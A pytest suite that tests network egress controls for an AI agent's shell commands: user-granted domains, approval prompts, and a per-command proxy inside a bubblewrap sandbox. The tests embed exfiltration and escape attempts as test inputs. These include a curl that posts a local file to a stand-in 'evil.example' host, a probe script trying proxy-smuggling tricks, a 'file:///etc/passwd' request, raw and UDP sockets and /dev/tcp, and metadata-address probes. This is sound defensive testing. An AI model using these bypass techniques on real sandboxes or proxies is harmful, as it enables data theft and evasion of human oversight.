# ruff: noqa: E501  # tables read better in few lines
"""A command's way out: nothing but the domains the user granted, through the outlet of its own network."""

import asyncio
import json
import os
import shutil
import socket
import subprocess
import sys
import time
from dataclasses import replace

import pytest

from lsp_agent.agent.approvals import Approvals
from lsp_agent.domain.run import RunOptions
from lsp_agent.policy.rules import Policy
from lsp_agent.ports.store import PutGrant
from lsp_agent.shell import outlet
from lsp_agent.shell.sandbox import TIERS, tiers_of
from lsp_agent.web.command_outlet import MAX_QUESTIONS, CommandOutlets
from lsp_agent.web.guard import Guard
from tests.shell.conftest import git, processes_with, until
from tests.web.site import Names, Site, answer

NEEDS = pytest.mark.skipif(shutil.which("bwrap") is None or shutil.which("curl") is None, reason="needs bwrap and curl")
pytestmark = [NEEDS, pytest.mark.skipif(sys.platform != "linux", reason="the tiers are Linux's")]


class Net:
    """A site and an evil one on loopback as the whole Internet, and commands that ask a real approver."""

    def __init__(self, shell, site: Site, evil: Site, names: Names) -> None:
        self.shell, self.site, self.evil, self.names = shell, site, evil, names
        self.approvals = Approvals(
            store=shell.world.store,
            events=shell.world.events,
            clock=shell.world.clock,
            decide=Policy().decide_ask,
            roots=lambda: [shell.root],
        )
        shell.world.approver = self.approvals
        shell.world.mode = "full-auto"  # commands run unasked; hosts are asked for all the same

    @property
    def url(self) -> str:
        return f"http://site.example:{self.site.port}/"

    @property
    def evil_url(self) -> str:
        return f"http://evil.example:{self.evil.port}/"

    def script(self, text: str) -> str:
        self.shell.world.file("go.sh", text)
        return "bash go.sh"

    async def run(self, text: str, *, run: RunOptions | None = None, **more):
        context = self.shell.world.context("bash")
        if run is not None:
            context = replace(context, run=replace(context.run, options=run))
        arguments = {"command": self.script(text), "description": "a test", **more}
        return await self.shell.bash.run(arguments, context)

    def start(self, text: str, **more) -> asyncio.Task:
        return asyncio.create_task(self.run(text, **more))

    async def question(self) -> dict:
        await until(self.approvals.pending)
        return self.approvals.pending()[0]

    async def choose(self, option: str) -> dict:
        record = await self.question()
        assert self.approvals.respond(record["requestId"], {"type": "selected", "optionId": option}, "e")["accepted"]
        return record

    def told(self, name: str) -> list[dict]:
        return [update for update in self.shell.world.events.updates if update["sessionUpdate"] == name]


@pytest.fixture
async def make_net(make_shell):
    sites: list[Site] = []

    async def make(*, domains=(), tiers=("bubblewrap", "none"), ssl=None, **more) -> Net:
        site, evil = await Site().start(ssl), await Site().start()
        sites.extend((site, evil))
        site.routes["/"] = answer("from outside\n")
        evil.routes["/"] = answer("evil\n")
        names = Names(site_example="127.0.0.1", evil_example="127.0.0.1")
        # only so that a test can be the Internet: the guard itself is the one of a fetch
        guard = Guard(resolve=names, allow_private=[("site.example", site.port), ("evil.example", evil.port)])
        outlets = CommandOutlets(guard, domains=lambda: domains, asks=more.pop("asks", True), ask_s=more.pop("ask_s", 60))
        net = Net(make_shell(*tiers, outlets=outlets, **more), site, evil, names)
        if await net.shell.sandbox.tier() != tiers[0]:
            pytest.skip(f"no {tiers[0]} here")
        return net

    yield make
    for site in sites:
        await site.stop()


# -------------------------------------------------------------------------------------------------------- what passes


async def test_EX_08_a_domain_of_the_configuration_is_reached_and_no_other(make_net):
    net = await make_net(domains=("site.example",), asks=False)
    result = await net.run(f"curl -sS {net.url}; curl -sS -p {net.url}; curl -sS -p {net.evil_url}; curl -sS {net.evil_url}")
    assert result.content.count("from outside") == 2
    assert result.content.count("no connection to evil.example: evil.example was not granted") == 1
    assert net.site.connections == 2
    assert net.evil.connections == 0
    assert net.names.asked == ["site.example", "site.example"]  # EX-02: what is not granted is not looked up
    assert net.told("permission_requested") == []


async def test_tls_goes_through_untouched(make_net, tmp_path):
    import ssl

    import trustme

    authority = trustme.CA()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    authority.issue_cert("site.example").configure_cert(context)
    net = await make_net(domains=("*.example",), ssl=context)
    net.shell.world.file("ca.crt", authority.cert_pem.bytes())
    result = await net.run(f"curl -sS --cacert ca.crt https://site.example:{net.site.port}/")
    assert "from outside" in result.content


async def test_git_clones_through_it(make_net, tmp_path):
    net = await make_net(domains=("site.example",))
    origin = tmp_path / "origin"
    origin.mkdir()
    git(origin, "init", "-b", "main")
    (origin / "hello.txt").write_text("cloned")
    git(origin, "add", ".")
    git(origin, "commit", "-m", "one")
    git(origin, "update-server-info")
    for path in (origin / ".git").rglob("*"):
        if path.is_file():
            net.site.routes[f"/repo.git/{path.relative_to(origin / '.git')}"] = answer(path.read_bytes(), kind="text/plain")
    result = await net.run(f"git clone -q {net.url}repo.git copy && cat copy/hello.txt")
    assert "cloned" in result.content, result.content


async def test_pip_downloads_through_it(make_net):
    import io
    import zipfile

    net = await make_net(domains=("site.example",))
    wheel = io.BytesIO()
    with zipfile.ZipFile(wheel, "w") as archive:
        archive.writestr("tiny/__init__.py", "")
        archive.writestr("tiny-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: tiny\nVersion: 1.0\n")
        archive.writestr("tiny-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        archive.writestr("tiny-1.0.dist-info/RECORD", "")
    net.site.routes["/simple/tiny/"] = answer('<a href="/tiny-1.0-py3-none-any.whl">tiny-1.0-py3-none-any.whl</a>')
    net.site.routes["/tiny-1.0-py3-none-any.whl"] = answer(wheel.getvalue(), kind="application/zip")
    pip = f"{sys.executable} -m pip --disable-pip-version-check --no-cache-dir"
    result = await net.run(f"{pip} download -q --index-url {net.url}simple --trusted-host site.example --no-deps tiny -d got && ls got")
    assert "tiny-1.0-py3-none-any.whl" in result.content, result.content


@pytest.mark.skipif(shutil.which("npm") is None, reason="npm is not installed")
async def test_npm_asks_through_it(make_net):
    net = await make_net(domains=("site.example",))
    about = {"name": "tiny", "dist-tags": {"latest": "1.2.3"}, "versions": {"1.2.3": {"name": "tiny", "version": "1.2.3", "dist": {}}}}
    net.site.routes["/tiny"] = answer(json.dumps(about), kind="application/json")
    result = await net.run(f"HOME=$PWD npm view tiny version --registry {net.url} --cache $PWD/cache 2>&1")
    assert "1.2.3" in result.content, result.content


# ---------------------------------------------------------------------------------------------------------- the question


async def test_the_user_is_asked_and_the_command_waits(make_net):
    net = await make_net()
    task = net.start(f"curl -sS {net.url}; curl -sS -p {net.url}")
    record = await net.choose("allow_once")
    result = await task
    assert result.content.count("from outside") == 2  # one answer holds for the whole command
    assert record["tool"] == "bash"
    assert record["subject"] == {"type": "url", "url": "https://site.example/"}
    assert (record["toolCallId"], record["runId"]) == ("t1", "r1")
    assert record["title"] == "Let a command reach site.example"
    assert "bash go.sh" in record["description"]
    assert {option["pattern"] for option in record["options"] if "pattern" in option} == {"https://site.example/"}
    task = net.start(f"curl -sS {net.url}")
    await net.choose("allow_once")  # once was once
    assert "from outside" in (await task).content
    assert net.evil.connections == 0


async def test_a_grant_lasts_as_long_as_the_user_said(make_net):
    net = await make_net()
    task = net.start(f"curl -sS {net.url}")
    await net.choose("allow_session")
    await task
    assert "from outside" in (await net.run(f"curl -sS {net.url}")).content
    task = net.start(f"curl -sS {net.evil_url}")
    await net.choose("allow_always")
    await task
    assert "evil" in (await net.run(f"curl -sS {net.evil_url}")).content
    assert len(net.told("permission_requested")) == 2
    [grant] = net.shell.world.store.of(PutGrant)
    assert (grant.tool, grant.pattern, grant.session_id) == ("bash", "https://evil.example/", None)


async def test_a_no_is_told_to_the_model_and_not_asked_again_by_the_same_command(make_net):
    net = await make_net()
    task = net.start(f"for i in 1 2 3; do curl -sS -p {net.evil_url} -d @go.sh; done")
    await net.choose("reject_once")
    result = await task
    assert "no connection to evil.example: evil.example was not granted to this command" in result.content
    assert len(net.told("permission_requested")) == 1
    assert (net.evil.connections, net.names.asked) == (0, [])


async def test_several_connections_to_one_host_are_one_question(make_net):
    net = await make_net()
    task = net.start("\n".join(f"curl -sS {net.url} &" for _ in range(6)) + "\nwait")
    await net.question()
    await net.choose("allow_once")
    assert (await task).content.count("from outside") == 6
    assert len(net.told("permission_requested")) == 1


async def test_one_command_cannot_bury_the_user_in_questions(make_net):
    net = await make_net()
    task = net.start("\n".join(f"curl -s http://h{number}.example/ &" for number in range(30)) + "\nwait")
    for _ in range(MAX_QUESTIONS):
        await net.choose("reject_once")
    await task
    assert len(net.told("permission_requested")) == MAX_QUESTIONS


async def test_EX_04_numbers_and_private_places_are_never_asked_for(make_net):
    net = await make_net()
    places = ["127.0.0.1:80", "[::1]:443", "169.254.169.254:80", "10.0.0.1:443", "1.1.1.1:443", "[2606:4700::1111]:443", "localhost:80", "printer.local:80",
              "2130706433:80", "0x7f000001:80", "0177.0.0.1:80", f"site.example:{net.evil.port}", "site.example:22", "metadata.internal:80"]  # fmt: skip
    text = "\n".join(f"curl -sS -p --proxytunnel --noproxy '' http://{place}/ 2>&1 | tail -1" for place in places)
    result = await net.run(text)
    assert result.content.count("403") == len(places)
    assert net.told("permission_requested") == []
    assert (net.site.connections, net.evil.connections, net.names.asked) == (0, 0, [])


async def test_where_nobody_can_be_asked_it_is_refused(make_net):
    net = await make_net()
    result = await net.run(f"curl -sS {net.url}", run=RunOptions(non_interactive=True))
    assert "no connection to site.example" in result.content
    assert net.told("permission_requested") == []
    assert net.site.connections == 0


async def test_an_answer_that_does_not_come_is_a_no(make_net):
    net = await make_net(ask_s=0.3)
    result = await net.run(f"curl -sS {net.url}")
    assert "no connection to site.example" in result.content
    assert [update["outcome"] for update in net.told("permission_resolved")] == ["cancelled"]


async def test_time_does_not_run_while_the_user_thinks(make_net):
    net = await make_net()
    task = net.start(f"curl -sS {net.url}", auto_background_after=1)
    await net.question()
    done, _ = await asyncio.wait([task], timeout=1.6)
    assert not done
    await net.choose("allow_once")
    result = await task
    assert "from outside" in result.content
    assert "background" not in result.content


async def test_SH_16_a_cancel_withdraws_the_question_and_ends_the_command(make_net):
    net = await make_net()
    task = net.start(f"curl -sS {net.url} mark-of-this-test")
    await net.question()
    started = time.monotonic()
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    took = time.monotonic() - started
    print(f"\ncancel while the user is asked: {took * 1000:.0f} ms")
    assert took < 2.5
    assert net.approvals.pending() == []
    names = [u["sessionUpdate"] for u in net.shell.world.events.updates]
    assert names.index("permission_resolved") < len(names) - 1 - names[::-1].index("terminal_update")
    assert processes_with("mark-of-this-test") == []


async def test_a_command_in_the_background_asks_nothing_but_keeps_what_is_granted(make_net):
    allowed: list[str] = []
    net = await make_net(allows=lambda run, mode, ask: ask.pattern in allowed)
    text = f"until [ -e now ]; do sleep 0.05; done; curl -sS {net.url}; touch first; until [ -e again ]; do sleep 0.05; done; curl -sS {net.url}; touch second"
    result = await net.run(text, run_in_background=True)
    job_id = result.metadata["shell_id"]
    net.shell.world.file("now")
    await until((net.shell.root / "first").exists)
    allowed.append("https://site.example/")
    net.shell.world.file("again")
    await until((net.shell.root / "second").exists)
    job = net.shell.jobs.get("s1", job_id)
    await until(job.done.is_set)
    assert job.err.text().count("no connection to site.example") == 1
    assert job.out.text().count("from outside") == 1
    assert net.told("permission_requested") == []


# ------------------------------------------------------------------------------------------------------------- the walls


ESCAPES = """
import json, os, socket, sys
site, evil, abstract, unix, udp = json.loads(sys.argv[1])
PROXY = ("127.0.0.1", 28117)
got = {}

def talk(data, *, more=b""):
    with socket.create_connection(PROXY, 5) as connection:
        connection.sendall(data)
        answer = connection.recv(4096)
        if more and answer.startswith(b"HTTP/1.1 200"):
            connection.sendall(more)
        return answer

def probe(name, action):
    try:
        got[name] = bool(action())
    except Exception:
        got[name] = False

def connects(data):
    return lambda: b" 200 " in talk(data, more=b"EXFIL" * 100).split(b"\\r\\n")[0]

for host in ("evil.example", "xsite.example", "site.example.evil.example", "evil.example#@site.example", "site.example@evil.example", "EVIL.example",
             "evil.example.", "127.0.0.1", "[::1]", "[::ffff:127.0.0.1]", "0", "2130706433", "0x7f.1", "localhost", "site.example%00.evil.example",
             "site.example\\\\.evil.example", "*.example", "", ".", "site..example", "a" * 300, "xn--", "-", "169.254.169.254", "10.0.0.1", "192.168.0.1"):
    for port in (evil, 80, 443, 22, site):
        if (host, port) != ("site.example", site):
            probe(f"connect {host[:40]!r} {port}", connects(f"CONNECT {host}:{port} HTTP/1.1\\r\\n\\r\\n".encode()))
for name, data in {
    "nul": b"CONNECT site.example\\0.evil.example:443 HTTP/1.1\\r\\n\\r\\n",
    "tab": b"CONNECT evil.example:%d\\tHTTP/1.1\\r\\n\\r\\n" % evil,
    "bare newline": b"CONNECT site.example:%d\\nX: y HTTP/1.1\\r\\n\\r\\n" % evil,
    "escape": b"CONNECT \\x1b[2Jevil.example:%d HTTP/1.1\\r\\n\\r\\n" % evil,
    "high bytes": b"CONNECT \\xff\\xfeevil.example:%d HTTP/1.1\\r\\n\\r\\n" % evil,
    "host field": b"CONNECT evil.example:%d HTTP/1.1\\r\\nHost: site.example\\r\\n\\r\\n" % evil,
    "plain get": b"GET http://evil.example:%d/?x=EXFIL HTTP/1.1\\r\\nHost: site.example\\r\\n\\r\\n" % evil,
    "plain post": b"POST http://evil.example:%d/ HTTP/1.1\\r\\nContent-Length: 5\\r\\n\\r\\nEXFIL" % evil,
    "user info": b"GET http://site.example@evil.example:%d/ HTTP/1.1\\r\\n\\r\\n" % evil,
    "backslash": b"GET http://site.example\\\\@evil.example:%d/ HTTP/1.1\\r\\n\\r\\n" % evil,
    "folded": b"GET http://evil.example:%d/ HTTP/1.1\\r\\n folded: x\\r\\n\\r\\n" % evil,
    "file": b"GET file:///etc/passwd HTTP/1.1\\r\\n\\r\\n",
    "ftp": b"GET ftp://evil.example:%d/ HTTP/1.1\\r\\n\\r\\n" % evil,
    "https": b"GET https://evil.example:%d/ HTTP/1.1\\r\\n\\r\\n" % evil,
    "origin form": b"GET / HTTP/1.1\\r\\nHost: evil.example:%d\\r\\n\\r\\n" % evil,
    "http 2": b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n",
    "trace": b"TRACE http://evil.example:%d/ HTTP/1.1\\r\\n\\r\\n" % evil,
}.items():
    probe(name, lambda data=data: b" 200 " in talk(data).split(b"\\r\\n")[0])
probe("socks 5", lambda: talk(b"\\x05\\x01\\x00").startswith(b"\\x05"))
probe("socks 4", lambda: talk(b"\\x04\\x01" + evil.to_bytes(2, "big") + b"\\x7f\\0\\0\\x01\\0\\r\\n\\r\\n").startswith(b"\\0"))
probe("direct", lambda: socket.create_connection(("127.0.0.1", evil), 2))
probe("direct granted", lambda: socket.create_connection(("127.0.0.1", site), 2))
probe("public", lambda: socket.create_connection(("1.1.1.1", 443), 1))
probe("dns", lambda: socket.getaddrinfo("site.example", 443))
probe("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"EXFIL", ("127.0.0.1", udp)) and False)
probe("udp public", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"EXFIL", ("9.9.9.9", 53)))
probe("unix", lambda: socket.socket(socket.AF_UNIX).connect(unix) is None)
probe("abstract", lambda: socket.socket(socket.AF_UNIX).connect("\\0" + abstract) is None)
probe("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
probe("netlink", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0))
def sockets_left():
    for name in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{name}").startswith("socket:"):
                return True
        except OSError:
            pass
probe("inherited socket", sockets_left)
probe("granted works", connects(b"CONNECT site.example:%d HTTP/1.1\\r\\n\\r\\n" % site))
print("PROBES " + json.dumps(got))
"""


async def test_EX_10_EX_08_nothing_gets_out_around_the_outlet_or_through_it(make_net, tmp_path):
    net = await make_net(domains=("site.example",), asks=False)
    with socket.socket(socket.AF_UNIX) as unix, socket.socket(socket.AF_UNIX) as abstract, socket.socket(type=socket.SOCK_DGRAM) as udp:
        unix.bind(str(net.shell.root / "u.sock"))
        abstract.bind(f"\0probe-{os.getpid()}")
        for listener in (unix, abstract):
            listener.listen()
        udp.bind(("127.0.0.1", 0))
        udp.setblocking(False)
        words = [net.site.port, net.evil.port, f"probe-{os.getpid()}", str(net.shell.root / "u.sock"), udp.getsockname()[1]]
        net.shell.world.file("escapes.py", ESCAPES)
        result = await net.run(f"/usr/bin/python3 -I escapes.py '{json.dumps(words)}'")
        with pytest.raises(BlockingIOError):
            udp.recv(10)
    line = next((line for line in result.content.splitlines() if line.startswith("PROBES ")), None)
    assert line is not None, result.content
    got = json.loads(line.removeprefix("PROBES "))
    assert got.pop("granted works")
    out = sorted(name for name, escaped in got.items() if escaped)
    print(f"\nways round the outlet: {len(out)} of {len(got)} (bubblewrap, uid {os.geteuid()})")
    assert len(got) >= 120
    assert out == []
    assert net.evil.connections == 0
    assert set(net.names.asked) == {"site.example"}


async def test_EX_02_names_are_not_resolved_inside(make_net):
    net = await make_net(domains=("site.example",))
    result = await net.run("getent hosts site.example || echo no such name; getent ahosts secret.evil.example || echo no such name")
    assert result.content.count("no such name") == 2
    assert net.names.asked == []


async def test_every_command_has_an_outlet_of_its_own_that_ends_with_it(make_net):
    async def hold(heard, writer):
        await heard.reader.read()

    net = await make_net(domains=("site.example",))
    net.site.routes["/hold"] = hold
    tasks = [net.start(f"curl -sS {net.url}hold", run_in_background=True) for _ in range(2)]
    ids = [(await task).metadata["shell_id"] for task in tasks]
    jobs = [net.shell.jobs.get("s1", job_id) for job_id in ids]
    await until(lambda: net.site.connections == 2)
    first, second = [job._outlet.proxy for job in jobs]
    assert first is not second
    assert [first.traffic.opened, second.traffic.opened] == [1, 1]
    await net.shell.jobs.stop(jobs[0])
    await until(lambda: net.site.closed == 1)
    assert (first._server, first._tunnels) == (None, set())
    assert second._tunnels
    await net.shell.jobs.close()
    await until(lambda: net.site.closed == 2)
    assert second._server is None


@pytest.mark.parametrize(("tiers", "domains", "asks"), [(("landlock", "none"), ("site.example",), True), (("bubblewrap", "none"), (), False)])
async def test_elsewhere_there_is_no_network_and_no_proxy_in_the_environment(make_net, tiers, domains, asks):
    net = await make_net(domains=domains, asks=asks, tiers=tiers)
    net.shell.world.approver = Everything()
    result = await net.run(f"env | grep -ic proxy; curl -sS {net.url}; exec 3<>/dev/tcp/127.0.0.1/{net.site.port}")
    assert result.content.startswith("0\n")
    assert net.site.connections == 0


class Everything:
    async def ask(self, run, tool_call_id, mode, ask):
        from lsp_agent.ports.approver import Decision

        return Decision(True)


async def test_what_only_reads_has_no_way_out(make_net):
    net = await make_net(domains=("site.example",))
    net.shell.world.mode = "ask"
    result = await net.shell.run("env")
    assert "PROXY" not in result.content
    assert net.told("permission_requested") == []


# --------------------------------------------------------------------------------------------------------------- pieces


def test_the_setting_chooses_the_tiers():
    assert tiers_of("auto") == TIERS
    assert tiers_of("bubblewrap") == ("bubblewrap", "none")
    assert tiers_of("landlock") == ("landlock", "none")
    assert tiers_of("none") == ("none",)


async def test_only_a_listening_socket_of_loopback_is_taken():
    with socket.create_server(("127.0.0.1", 0)) as good, socket.create_server(("0.0.0.0", 0)) as wide, socket.socket() as idle:
        read, write = os.pipe()
        cases = [([good], True), ([wide], False), ([idle], False), ([read], False), ([good, good], False), ([], False)]
        before = len(os.listdir("/proc/self/fd"))
        for sent, wanted in cases:
            ours, theirs = socket.socketpair()
            socket.send_fds(theirs, [b"."], [one if isinstance(one, int) else one.fileno() for one in sent])
            async with asyncio.timeout(5):
                taken = await outlet.receive_listener(ours)
            assert (taken is not None) is wanted, sent
            if taken is not None:
                assert taken.getsockname() == good.getsockname()
                taken.close()
            theirs.close()
        assert len(os.listdir("/proc/self/fd")) == before
        os.close(read)
        os.close(write)


def test_without_a_socket_the_command_runs_without_a_proxy():
    line = outlet.launcher(sys.executable, ["/usr/bin/env"])
    env = {"A": "b", **outlet.PROXY_ENVIRONMENT}
    done = subprocess.run(line, env=env, capture_output=True, text=True, timeout=10)
    assert done.returncode == 0
    assert "A=b" in done.stdout
    assert "PROXY" not in done.stdout.upper().replace("NODE_USE_ENV_PROXY", "NODE_USE_ENV_PROXY")


async def test_what_an_outlet_costs(make_net):
    net = await make_net(domains=("site.example",))
    took = {}
    for name, outlets in {"with": net.shell.jobs._outlets, "without": None}.items():
        net.shell.jobs._outlets = outlets
        await net.run(":")
        times = []
        for _ in range(7):
            started = time.monotonic()
            await net.run(":")
            times.append(time.monotonic() - started)
        took[name] = sorted(times)[3] * 1000
    print(f"\na command with an outlet {took['with']:.0f} ms, without {took['without']:.0f} ms (median of 7)")
    assert took["with"] < took["without"] + 500
